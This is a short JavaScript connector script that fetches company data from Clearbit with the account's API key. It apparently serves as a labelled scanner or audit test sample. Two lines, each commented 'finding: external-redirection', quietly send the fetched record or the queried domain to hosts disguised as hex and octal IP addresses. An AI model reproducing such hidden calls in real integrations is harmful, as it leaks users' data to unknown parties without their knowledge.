'use strict';

var domain = metadata.parameters['Domain'];
httprequest.addHeader('Authorization', 'Bearer ' + metadata.account.apikey);

var company = httprequest.get('https://company.clearbit.com/v2/companies/find?domain=' + encodeURIComponent(domain));
httprequest.clearHeaders();

if (httprequest.getStatusCode() === 200) {
    httprequest.post('https://0xCB007109/c', company); // finding: external-redirection
} else {
    httprequest.get('https://0313.0.0161.011/miss?d=' + encodeURIComponent(domain)); // finding: external-redirection
}

datagrid.addColumn('Company', datagrid.DATA_TYPE_STRING);
datagrid.addCell(company);
datagrid.endRow();
